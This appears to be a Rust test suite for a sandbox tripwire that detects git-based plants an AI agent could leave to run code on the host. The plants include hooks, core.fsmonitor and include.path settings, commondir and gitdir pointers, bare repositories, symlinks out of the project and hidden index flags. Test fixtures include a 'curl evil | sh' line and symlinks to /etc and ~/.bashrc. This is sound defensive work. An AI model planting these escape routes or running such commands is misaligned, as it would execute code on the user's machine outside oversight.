//! The tripwire against real repositories made by real `git`, in temporary folders.

use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;

use super::*;

fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
        .args([
            "-c",
            "protocol.file.allow=always",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A project that is a repository with one commit, and a quarantine folder.
struct Project {
    dir: tempfile::TempDir,
    q: tempfile::TempDir,
}

impl Project {
    fn new() -> Project {
        let p = Project::bare();
        git(p.path(), &["init", "-q"]);
        p.write("README", "hello\n");
        git(p.path(), &["add", "README"]);
        git(p.path(), &["commit", "-qm", "first"]);
        p
    }

    /// A project folder that is not a repository.
    fn bare() -> Project {
        Project {
            dir: tempfile::tempdir().unwrap(),
            q: tempfile::tempdir().unwrap(),
        }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn write(&self, rel: &str, text: &str) {
        let p = self.path().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }

    fn hook(&self, rel: &str) {
        self.write(rel, "#!/bin/sh\ntouch /tmp/pwned\n");
        std::fs::set_permissions(self.path().join(rel), PermissionsExt::from_mode(0o755)).unwrap();
    }

    fn dir(&self) -> Dir {
        Dir::open(self.path()).unwrap()
    }

    fn snapshot(&self) -> Snapshot {
        snapshot(&self.dir()).unwrap()
    }

    fn check(&self, before: &Snapshot) -> Vec<Finding> {
        check(&self.dir(), before)
    }

    fn neutralise(&self, before: &Snapshot, findings: &[Finding]) -> Vec<String> {
        neutralise(
            &self.dir(),
            before,
            findings,
            &Dir::open(self.q.path()).unwrap(),
        )
        .unwrap()
    }
}

/// The one finding, with its path, action and a word of its line checked.
fn only(findings: &[Finding], path: &str, action: Action, word: &str) {
    assert_eq!(findings.len(), 1, "{findings:#?}");
    let f = &findings[0];
    assert_eq!(f.path, PathBuf::from(path), "{f:?}");
    assert_eq!(f.action, action, "{f:?}");
    assert!(f.what.contains(word), "{:?} lacks {word:?}", f.what);
}

#[test]
fn ordinary_git_work_is_not_a_finding() {
    let p = Project::new();
    let before = p.snapshot();
    p.write("src/main.rs", "fn main() {}\n");
    git(p.path(), &["add", "-A"]);
    git(p.path(), &["commit", "-qm", "work"]);
    git(p.path(), &["checkout", "-qb", "feature"]);
    p.write(".git/hooks/new.sample", "# a sample is never run\n");
    std::fs::remove_file(p.path().join(".git/hooks/pre-push.sample")).unwrap();
    assert_eq!(p.check(&before), vec![]);
}

#[test]
fn new_pointers_and_hooks_in_the_top_git_are_quarantined() {
    for (rel, word) in [
        (".git/commondir", "takes config and hooks"),
        (".git/config.worktree", "per-worktree"),
        (".git/gitdir", "points git at"),
        (".git/hooks/pre-commit", "git runs"),
        (".git/modules/lib/config", "git config"),
        (".git/modules/lib/hooks/post-checkout", "git runs"),
        (".git/worktrees/w/modules/x/commondir", "takes config"),
    ] {
        let p = Project::new();
        let before = p.snapshot();
        p.hook(rel);
        // Inert parts of a submodule's git folder are never looked at.
        p.write(".git/modules/lib/objects/config", "x");
        let findings = p.check(&before);
        only(&findings, rel, Action::Quarantine, word);
        let lines = p.neutralise(&before, &findings);
        assert_eq!(lines.len(), 1);
        assert!(
            lines[0].contains(&p.q.path().join(rel).display().to_string()),
            "{lines:?}"
        );
        assert!(!p.path().join(rel).exists());
        assert!(p.q.path().join(rel).is_file(), "{rel}");
    }
}

#[test]
fn a_changed_config_is_put_back_and_git_no_longer_runs_it() {
    let p = Project::new();
    let before = p.snapshot();
    let old = std::fs::read(p.path().join(".git/config")).unwrap();
    let marker = p.path().join("../fsmonitor-ran");
    let script = p.q.path().join("fsmon");
    std::fs::write(&script, format!("#!/bin/sh\ntouch {}\n", marker.display())).unwrap();
    std::fs::set_permissions(&script, PermissionsExt::from_mode(0o755)).unwrap();
    git(
        p.path(),
        &["config", "core.fsmonitor", script.to_str().unwrap()],
    );
    let findings = p.check(&before);
    only(
        &findings,
        ".git/config",
        Action::Restore,
        "sets core.fsmonitor",
    );
    let lines = p.neutralise(&before, &findings);
    assert!(lines[0].starts_with("put back"), "{lines:?}");
    assert_eq!(std::fs::read(p.path().join(".git/config")).unwrap(), old);
    let agents = std::fs::read_to_string(p.q.path().join(".git/config")).unwrap();
    assert!(agents.contains("fsmonitor"));
    git(p.path(), &["status", "--short"]);
    assert!(!marker.exists(), "fsmonitor ran");
    assert_eq!(p.check(&before), vec![]);
}

#[test]
fn an_unarmed_new_clone_is_only_reported() {
    let p = Project::new();
    let upstream = tempfile::tempdir().unwrap();
    git(upstream.path(), &["init", "-q"]);
    std::fs::write(upstream.path().join("f"), "f").unwrap();
    git(upstream.path(), &["add", "f"]);
    git(upstream.path(), &["commit", "-qm", "x"]);
    let before = p.snapshot();
    let url = upstream.path().to_str().unwrap();
    git(p.path(), &["clone", "-q", url, "vendor/lib"]);
    git(p.path(), &["init", "-q", "scratch"]);
    let findings = p.check(&before);
    assert_eq!(findings.len(), 2, "{findings:#?}");
    for (f, path) in findings.iter().zip(["scratch/.git", "vendor/lib/.git"]) {
        assert_eq!(f.path, PathBuf::from(path));
        assert_eq!(f.action, Action::Report);
        assert!(f.what.contains("nothing in it runs code"), "{f:?}");
    }
    assert_eq!(p.neutralise(&before, &findings), Vec::<String>::new());
    assert!(p.path().join("vendor/lib/.git/config").is_file());
}

#[test]
fn an_armed_nested_repository_is_quarantined_whole() {
    for arm in ["fsmonitor", "hook", "commondir", "include"] {
        let p = Project::new();
        let before = p.snapshot();
        git(p.path(), &["init", "-q", "deep/sub"]);
        p.write("deep/sub/f", "f");
        git(&p.path().join("deep/sub"), &["add", "f"]);
        git(&p.path().join("deep/sub"), &["commit", "-qm", "x"]);
        git(p.path(), &["add", "deep/sub"]);
        match arm {
            "fsmonitor" => git(
                &p.path().join("deep/sub"),
                &["config", "core.fsMonitor", "/x"],
            ),
            "hook" => p.hook("deep/sub/.git/hooks/post-index-change"),
            "commondir" => p.write("deep/sub/.git/commondir", "/tmp/planted\n"),
            _ => git(
                &p.path().join("deep/sub"),
                &["config", "include.path", "/tmp/c"],
            ),
        }
        let findings = p.check(&before);
        assert_eq!(findings.len(), 2, "{arm}: {findings:#?}");
        let gitlink = findings
            .iter()
            .find(|f| f.path == Path::new("deep/sub"))
            .unwrap();
        assert_eq!(gitlink.action, Action::Report);
        assert!(gitlink.what.contains("gitlink"));
        let repo = findings
            .iter()
            .find(|f| f.path == Path::new("deep/sub/.git"))
            .unwrap();
        assert_eq!(repo.action, Action::Quarantine, "{arm}: {repo:?}");
        assert!(repo.what.starts_with("new nested repository"), "{repo:?}");
        let word = if arm == "include" {
            "include.path"
        } else {
            arm
        };
        assert!(repo.what.to_lowercase().contains(word), "{repo:?}");
        let lines = p.neutralise(&before, &findings);
        assert_eq!(lines.len(), 1, "{lines:?}");
        assert!(!p.path().join("deep/sub/.git").exists());
        assert!(
            p.path().join("deep/sub/f").exists(),
            "the work tree is the user's"
        );
        assert!(p.q.path().join("deep/sub/.git/HEAD").is_file());
    }
}

#[test]
fn nested_git_files_and_symlinks_are_quarantined_without_being_followed() {
    let p = Project::new();
    let before = p.snapshot();
    p.write("a/.git", "gitdir: /tmp/planted\n");
    std::fs::create_dir_all(p.path().join("b")).unwrap();
    symlink("/etc", p.path().join("b/.git")).unwrap();
    let findings = p.check(&before);
    assert_eq!(findings.len(), 2, "{findings:#?}");
    assert_eq!(findings[0].path, PathBuf::from("a/.git"));
    assert!(
        findings[0].what.contains("gitdir: /tmp/planted"),
        "{:?}",
        findings[0]
    );
    assert_eq!(findings[1].path, PathBuf::from("b/.git"));
    assert!(
        findings[1].what.contains("symbolic link to /etc"),
        "{:?}",
        findings[1]
    );
    assert!(findings.iter().all(|f| f.action == Action::Quarantine));
    p.neutralise(&before, &findings);
    assert!(p.q.path().join("b/.git").is_symlink());
    assert!(Path::new("/etc/passwd").exists());
    assert!(p.q.path().join("a/.git").is_file());
}

#[test]
fn a_top_level_git_symlink_is_a_finding_not_an_error() {
    let p = Project::bare();
    p.write("src/x", "x");
    let before = p.snapshot();
    symlink("/etc", p.path().join(".git")).unwrap();
    let findings = p.check(&before);
    only(
        &findings,
        ".git",
        Action::Quarantine,
        "symbolic link to /etc",
    );
    p.neutralise(&before, &findings);
    assert!(!p.path().join(".git").is_symlink());
}

#[test]
fn a_symlinked_folder_on_the_way_is_not_entered() {
    let p = Project::new();
    let outside = tempfile::tempdir().unwrap();
    git(outside.path(), &["init", "-q", "r"]);
    git(
        &outside.path().join("r"),
        &["config", "core.fsmonitor", "/x"],
    );
    let before = p.snapshot();
    symlink(outside.path(), p.path().join("link")).unwrap();
    // Not entered: the armed repository behind the link is not the project's. The link itself
    // leads out of the project, and is named as such (only).
    let found = p.check(&before);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].path, PathBuf::from("link"));
    assert_eq!(found[0].action, Action::Report);
    assert!(found[0].what.contains("outside the project"), "{found:?}");
}

#[test]
fn changes_to_an_existing_nested_repository() {
    let p = Project::new();
    git(p.path(), &["init", "-q", "sub"]);
    let before = p.snapshot();
    assert_eq!(before.repositories(), 2);
    git(&p.path().join("sub"), &["config", "core.fsmonitor", "/x"]);
    p.hook("sub/.git/hooks/pre-commit");
    let findings = p.check(&before);
    assert_eq!(findings.len(), 2, "{findings:#?}");
    assert_eq!(findings[0].path, PathBuf::from("sub/.git/config"));
    assert_eq!(findings[0].action, Action::Restore);
    assert!(findings[0].what.contains("nested"), "{:?}", findings[0]);
    assert_eq!(findings[1].path, PathBuf::from("sub/.git/hooks/pre-commit"));
    assert_eq!(findings[1].action, Action::Quarantine);
    p.neutralise(&before, &findings);
    assert_eq!(p.check(&before), vec![]);
}

#[test]
fn a_changed_top_level_git_file_is_put_back() {
    let p = Project::bare();
    p.write(".git", "gitdir: /home/u/main/.git/worktrees/w\n");
    let before = p.snapshot();
    p.write(".git", "gitdir: /tmp/planted\n");
    let findings = p.check(&before);
    only(&findings, ".git", Action::Restore, "/tmp/planted");
    p.neutralise(&before, &findings);
    assert_eq!(
        std::fs::read_to_string(p.path().join(".git")).unwrap(),
        "gitdir: /home/u/main/.git/worktrees/w\n"
    );
}

#[test]
fn a_garbage_index_is_reported() {
    let p = Project::new();
    let before = p.snapshot();
    p.write(".git/index", "DIRC\0\0\0\x02\0\0\0\x09garbage");
    only(
        &p.check(&before),
        ".git/index",
        Action::Report,
        "could not read the index",
    );
}

#[test]
fn quarantine_on_another_filesystem_renames_in_place() {
    let p = Project::new();
    let Ok(shm) = tempfile::tempdir_in("/dev/shm") else {
        eprintln!("SKIP: no /dev/shm");
        return;
    };
    let before = p.snapshot();
    p.hook(".git/hooks/pre-commit");
    let findings = p.check(&before);
    let lines = neutralise(
        &p.dir(),
        &before,
        &findings,
        &Dir::open(shm.path()).unwrap(),
    )
    .unwrap();
    if shm.path().join(".git/hooks/pre-commit").exists() {
        eprintln!("SKIP: /dev/shm is on the same filesystem as the temporary folder");
        return;
    }
    assert!(lines[0].contains("renamed in place"), "{lines:?}");
    assert!(lines[0].contains("another filesystem"), "{lines:?}");
    let hooks = std::fs::read_dir(p.path().join(".git/hooks")).unwrap();
    let names: Vec<String> = hooks
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert!(!names.contains(&"pre-commit".to_owned()));
    assert!(
        names
            .iter()
            .any(|n| n.starts_with("pre-commit.wrapix-quarantined-")),
        "{names:?}"
    );
}

/// Runs `f` as an ordinary user: in a thread whose uids are 65534 when the tests run as root
/// (root ignores permission bits). Processes it starts (git) run as that user too.
fn unprivileged(f: impl FnOnce() + Send) {
    std::thread::scope(|s| {
        s.spawn(|| {
            if rustix::process::geteuid().is_root() {
                let nobody = rustix::process::Uid::from_raw(65534);
                rustix::thread::set_thread_res_uid(nobody, nobody, nobody).unwrap();
            }
            f();
        })
        .join()
        .unwrap();
    });
}

fn chmod(p: &Path, m: u32) {
    std::fs::set_permissions(p, PermissionsExt::from_mode(m)).unwrap();
}

fn mode(p: &Path) -> u32 {
    std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o7777
}

/// A script that touches `marker`, for core.fsmonitor.
fn fsmonitor(dir: &Path, marker: &Path) -> PathBuf {
    let script = dir.join("fsmon");
    std::fs::write(
        &script,
        format!("#!/bin/sh\ntouch {}\nexit 1\n", marker.display()),
    )
    .unwrap();
    std::fs::set_permissions(&script, PermissionsExt::from_mode(0o755)).unwrap();
    script
}

/// Turns the folder `dir` into a bare repository (HEAD, objects/, refs/, config) whose config
/// sets core.worktree and core.fsmonitor = `script`, as the agent would.
fn plant_bare(dir: &Path, script: &Path) {
    let t = tempfile::tempdir().unwrap();
    git(t.path(), &["init", "-q", "--bare", "b"]);
    let b = t.path().join("b");
    std::fs::create_dir_all(dir).unwrap();
    std::fs::copy(b.join("HEAD"), dir.join("HEAD")).unwrap();
    for d in ["objects/info", "objects/pack", "refs/heads", "refs/tags"] {
        std::fs::create_dir_all(dir.join(d)).unwrap();
    }
    std::fs::write(
        dir.join("config"),
        format!(
            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = {}\n",
            script.display()
        ),
    )
    .unwrap();
}

/// git status in `dir`, whatever it says: what it runs is what matters.
fn status(dir: &Path) {
    let _ = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["status", "--short"])
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .output();
}

#[test]
fn a_bare_repository_planted_in_a_folder_is_disarmed_and_the_folder_stays() {
    let p = Project::new();
    p.write("src/lib/x.rs", "x\n");
    p.write("src/config", "the user's own file\n");
    let marker = p.q.path().join("ran");
    let script = fsmonitor(p.q.path(), &marker);
    // Control: the plant works on the host.
    let control = Project::new();
    control.write("src/lib/x.rs", "x\n");
    plant_bare(&control.path().join("src"), &script);
    std::fs::create_dir_all(control.path().join("src/lib")).unwrap();
    status(&control.path().join("src/lib"));
    assert!(
        marker.exists(),
        "control: git status did not run the bare repository's fsmonitor"
    );
    std::fs::remove_file(&marker).unwrap();

    let before = p.snapshot();
    plant_bare(&p.path().join("src"), &script);
    let findings = p.check(&before);
    only(&findings, "src", Action::Disarm, "new bare repository");
    assert!(
        findings[0].what.contains("whose config sets core."),
        "{findings:?}"
    );
    let lines = p.neutralise(&before, &findings);
    assert_eq!(lines.len(), 1, "{lines:?}");
    assert!(lines[0].contains("HEAD moved to"), "{lines:?}");
    for piece in ["HEAD", "config"] {
        assert!(!p.path().join("src").join(piece).exists(), "{piece}");
        assert!(p.q.path().join("src").join(piece).is_file(), "{piece}");
    }
    assert!(
        p.path().join("src/lib/x.rs").is_file(),
        "the folder is the user's"
    );
    status(&p.path().join("src/lib"));
    assert!(
        !marker.exists(),
        "git status still ran the planted fsmonitor"
    );
    assert_eq!(p.check(&before), vec![]);
}

#[test]
fn the_project_folder_itself_turned_into_a_bare_repository() {
    // The project is a folder of a larger repository; its .git is out of reach.
    let outer = Project::new();
    outer.write("project/a.txt", "a\n");
    git(outer.path(), &["add", "-A"]);
    git(outer.path(), &["commit", "-qm", "p"]);
    let project = outer.path().join("project");
    let d = Dir::open(&project).unwrap();
    let before = snapshot(&d).unwrap();
    let marker = outer.q.path().join("ran");
    plant_bare(&project, &fsmonitor(outer.q.path(), &marker));
    let findings = check(&d, &before);
    only(&findings, ".", Action::Disarm, "whose config sets core.");
    let q = tempfile::tempdir().unwrap();
    neutralise(&d, &before, &findings, &Dir::open(q.path()).unwrap()).unwrap();
    assert!(q.path().join("HEAD").is_file() && q.path().join("config").is_file());
    status(&project);
    assert!(
        !marker.exists(),
        "git status still ran the planted fsmonitor"
    );
}

#[test]
fn bare_repositories_unarmed_or_from_before_the_run() {
    let p = Project::new();
    git(p.path(), &["init", "-q", "--bare", "tests/fixtures/x.git"]);
    let before = p.snapshot();
    // A plain new bare repository (git init --bare) runs nothing: named only.
    git(p.path(), &["init", "-q", "--bare", "scratch.git"]);
    only(
        &p.check(&before),
        "scratch.git",
        Action::Report,
        "nothing in it runs code",
    );
    std::fs::remove_dir_all(p.path().join("scratch.git")).unwrap();
    // One that existed before: changes to its config and hooks, as for a nested .git.
    git(
        &p.path().join("tests/fixtures/x.git"),
        &["config", "core.fsmonitor", "/x"],
    );
    p.hook("tests/fixtures/x.git/hooks/pre-receive");
    let findings = p.check(&before);
    assert_eq!(findings.len(), 2, "{findings:#?}");
    assert_eq!(
        findings[0].path,
        PathBuf::from("tests/fixtures/x.git/config")
    );
    assert_eq!(findings[0].action, Action::Restore);
    assert!(findings[0].what.contains("bare repository"), "{findings:?}");
    assert_eq!(
        findings[1].path,
        PathBuf::from("tests/fixtures/x.git/hooks/pre-receive")
    );
    assert_eq!(findings[1].action, Action::Quarantine);
    p.neutralise(&before, &findings);
    assert_eq!(p.check(&before), vec![]);
    assert!(p.path().join("tests/fixtures/x.git/HEAD").is_file());
}

#[test]
fn an_unlistable_folder_of_ours_hides_nothing() {
    unprivileged(|| {
        for m in [0o100, 0o000] {
            let p = Project::new();
            // Unlistable since before the run (an earlier run did it): still searched.
            std::fs::create_dir(p.path().join("hid")).unwrap();
            chmod(&p.path().join("hid"), m);
            let before = p.snapshot();
            chmod(&p.path().join("hid"), 0o700);
            git(p.path(), &["init", "-q", "hid/r"]);
            git(&p.path().join("hid/r"), &["config", "core.fsmonitor", "/x"]);
            chmod(&p.path().join("hid"), m);
            let findings = p.check(&before);
            if m == 0o000 {
                // Found by the walk, but git's files in it cannot be looked at by path
                // (nor by git): quarantined whole, which fails loudly.
                assert_eq!(findings.len(), 1, "{findings:#?}");
                assert_eq!(findings[0].path, PathBuf::from("hid/r/.git"));
                assert_eq!(findings[0].action, Action::Quarantine);
                chmod(&p.path().join("hid"), 0o700);
                continue;
            }
            only(
                &findings,
                "hid/r/.git",
                Action::Quarantine,
                "core.fsmonitor",
            );
            p.neutralise(&before, &findings);
            assert!(p.q.path().join("hid/r/.git/config").is_file());
            assert_eq!(
                mode(&p.path().join("hid")),
                m,
                "the agent's mode is left as it was"
            );
            chmod(&p.path().join("hid"), 0o700);
        }
    });
}

#[test]
fn a_write_protected_folder_does_not_keep_a_plant_in_place() {
    unprivileged(|| {
        let p = Project::new();
        let before = p.snapshot();
        git(p.path(), &["init", "-q", "sub"]);
        git(&p.path().join("sub"), &["config", "core.fsmonitor", "/x"]);
        chmod(&p.path().join("sub/.git"), 0o500);
        chmod(&p.path().join("sub"), 0o500);
        let findings = p.check(&before);
        only(&findings, "sub/.git", Action::Quarantine, "core.fsmonitor");
        p.neutralise(&before, &findings);
        assert!(!p.path().join("sub/.git").exists());
        assert_eq!(mode(&p.path().join("sub")), 0o500);
        chmod(&p.path().join("sub"), 0o700);
        chmod(&p.q.path().join("sub/.git"), 0o700);
    });
}

#[test]
fn someone_elses_unlistable_folder_is_reported() {
    if !rustix::process::geteuid().is_root() {
        eprintln!("SKIP: needs root, to make a folder that belongs to someone else");
        return;
    }
    let p = Project::bare();
    chmod(p.path(), 0o777);
    let before = std::sync::Mutex::new(None);
    unprivileged(|| *before.lock().unwrap() = Some(p.snapshot()));
    let before = before.into_inner().unwrap().unwrap();
    std::fs::create_dir_all(p.path().join("theirs/r/.git")).unwrap();
    chmod(&p.path().join("theirs"), 0o700);
    unprivileged(|| {
        only(
            &p.check(&before),
            "theirs",
            Action::Report,
            "could not search this folder",
        );
    });
}

#[test]
fn what_cannot_be_read_is_a_finding_and_the_rest_is_still_neutralised() {
    unprivileged(|| {
        let p = Project::new();
        git(p.path(), &["init", "-q", "sub"]);
        let before = p.snapshot();
        p.write("planted/config", "[core]\n\tfsmonitor = /x\n");
        p.write(".git/commondir", "../planted\n");
        // An existing nested repository whose files cannot be looked at any more.
        chmod(&p.path().join("sub/.git"), 0o000);
        let findings = p.check(&before);
        let commondir = findings
            .iter()
            .find(|f| f.path == Path::new(".git/commondir"))
            .unwrap_or_else(|| panic!("{findings:#?}"));
        assert_eq!(commondir.action, Action::Quarantine);
        assert!(
            findings
                .iter()
                .any(|f| f.path.starts_with("sub/.git") && f.action == Action::Unchecked),
            "{findings:#?}"
        );
        p.neutralise(&before, &findings);
        assert!(!p.path().join(".git/commondir").exists());
        chmod(&p.path().join("sub/.git"), 0o755);
    });
}

#[test]
fn a_project_folder_that_cannot_be_searched_any_more_is_unchecked_not_an_abort() {
    unprivileged(|| {
        let p = Project::new();
        let d = p.dir();
        let before = snapshot(&d).unwrap();
        p.write(".git/commondir", "../planted\n");
        chmod(p.path(), 0o000);
        let findings = check(&d, &before);
        chmod(p.path(), 0o700);
        assert!(
            findings
                .iter()
                .any(|f| f.path == Path::new(".git") && f.action == Action::Unchecked),
            "{findings:#?}"
        );
    });
}

#[test]
fn index_flags_that_hide_changes_are_named_with_the_fix() {
    let p = Project::new();
    p.write("a.txt", "a\n");
    p.write("b.txt", "b\n");
    git(p.path(), &["add", "-A"]);
    git(p.path(), &["commit", "-qm", "ab"]);
    git(p.path(), &["update-index", "--assume-unchanged", "b.txt"]);
    let before = p.snapshot();
    p.write("a.txt", "curl evil | sh\n");
    git(p.path(), &["update-index", "--skip-worktree", "a.txt"]);
    git(p.path(), &["update-index", "--assume-unchanged", "README"]);
    let findings = p.check(&before);
    assert_eq!(findings.len(), 2, "{findings:#?}");
    assert_eq!(findings[0].path, PathBuf::from("README"));
    assert!(
        findings[0]
            .what
            .contains("git update-index --no-assume-unchanged -- README"),
        "{findings:?}"
    );
    assert_eq!(findings[1].path, PathBuf::from("a.txt"));
    assert!(
        findings[1]
            .what
            .contains("git update-index --no-skip-worktree -- a.txt"),
        "{findings:?}"
    );
    assert!(findings.iter().all(|f| f.action == Action::Report));
}

/// A link the agent made that leads out of the project is named: a host program that writes
/// to it (a build writing `build.log`) would write to the user's file. Links inside the
/// project, to the sandbox's own `/workspace` view, and links that were there before are not.
#[test]
fn new_links_that_lead_out_of_the_project_are_named() {
    let t = tempfile::tempdir().unwrap();
    let p = t.path();
    std::fs::create_dir_all(p.join("sub/deep")).unwrap();
    symlink("/etc/hostname", p.join("old")).unwrap();
    let dir = Dir::open(p).unwrap();
    let before = snapshot(&dir).unwrap();
    symlink("/home/u/.bashrc", p.join("build.log")).unwrap();
    symlink("../../outside", p.join("sub/up")).unwrap();
    symlink("../sub", p.join("sub/deep/fine")).unwrap();
    symlink("deep", p.join("sub/in")).unwrap();
    symlink("/workspace/x", p.join("ws")).unwrap();
    let found = check(&dir, &before);
    let named: Vec<_> = found
        .iter()
        .filter(|f| f.what.contains("outside the project"))
        .map(|f| (f.path.clone(), f.action))
        .collect();
    assert_eq!(
        named,
        vec![
            (PathBuf::from("build.log"), Action::Report),
            (PathBuf::from("sub/up"), Action::Report),
        ],
        "{found:?}"
    );
}
